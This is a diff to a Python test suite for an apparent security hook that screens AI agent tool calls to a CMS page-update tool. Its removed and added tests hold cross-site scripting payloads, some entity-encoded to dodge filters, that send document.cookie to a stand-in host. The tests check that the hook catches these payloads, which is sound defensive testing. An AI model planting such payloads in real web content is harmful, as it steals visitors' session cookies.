@@ -27,8 +27,16 @@ def test_double_encoding_and_plain_text() -> None:
     assert unescape("fish & chips; salt") == "fish & chips; salt"
 
 
-def test_entity_encoded_xss_in_an_mcp_parameter_is_seen(tmp_path) -> None:
-    payload = {"hook_event_name": "PreToolUse", "tool_name": "mcp__cms__update_page", "tool_input": {"body": "&#x3C;script&#x3E;fetch('https://x.example/?c='+document.cookie)&#x3C;/script&#x3E;"}}
-    plain = {"hook_event_name": "PreToolUse", "tool_name": "mcp__cms__update_page", "tool_input": {"body": "<script>fetch('https://x.example/?c='+document.cookie)</script>"}}
-    assert run_payload(claude_code, plain, Config())[1].decision != "allow"
-    assert run_payload(claude_code, payload, Config())[1].decision != "allow"
+def mcp(body: str) -> str:
+    payload = {"hook_event_name": "PreToolUse", "tool_name": "mcp__cms__update_page", "tool_input": {"html": body}}
+    return run_payload(claude_code, payload, Config())[1].decision
+
+
+def test_entity_encoded_javascript_url_is_seen() -> None:
+    assert mcp('<a href="javascript:fetch(`https://x.example/?c=`+document.cookie)">x</a>') != "allow"
+    assert mcp('<a href="&#106;&#97;vascript&colon;fetch(`https://x.example/?c=`+document.cookie)">x</a>') != "allow"
+
+
+def test_escaped_markup_stays_text() -> None:
+    assert unescape("&lt;script&gt;", keep="<>") == "&lt;script&gt;"
+    assert mcp("&lt;script&gt;alert(1)&lt;/script&gt; is shown as text") == "allow"
